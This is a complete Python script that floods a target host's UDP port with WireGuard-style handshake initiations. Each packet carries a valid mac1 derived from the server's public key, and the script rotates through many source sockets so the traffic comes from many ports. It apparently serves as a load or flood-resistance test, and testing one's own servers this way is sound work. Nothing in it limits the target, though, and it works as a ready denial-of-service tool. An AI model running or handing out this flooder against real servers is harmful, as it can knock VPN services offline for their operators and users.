#!/usr/bin/env python3
"""Initiations with a valid mac1 for PUBLIC_KEY (random body), each socket used for PER messages and
then closed, so they come from many source ports. usage: flood_ports.py PUB HOST PORT SECONDS PER"""
import base64, hashlib, os, socket, sys, time
pub = base64.b64decode(sys.argv[1]); host = sys.argv[2]; port = int(sys.argv[3]); secs = float(sys.argv[4]); per = int(sys.argv[5])
key = hashlib.blake2s(b"mac1----" + pub).digest()
msgs = []
for _ in range(256):
    body = bytes([1, 0, 0, 0]) + os.urandom(112)
    msgs.append(body + hashlib.blake2s(body, key=key, digest_size=16).digest() + bytes(16))
end = time.monotonic() + secs; n = 0; sockets = 0
while time.monotonic() < end:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); sockets += 1
    for i in range(per):
        s.sendto(msgs[(n + i) % 256], (host, port))
    n += per
    s.close()
print("sent", n, "from", sockets, "ports")
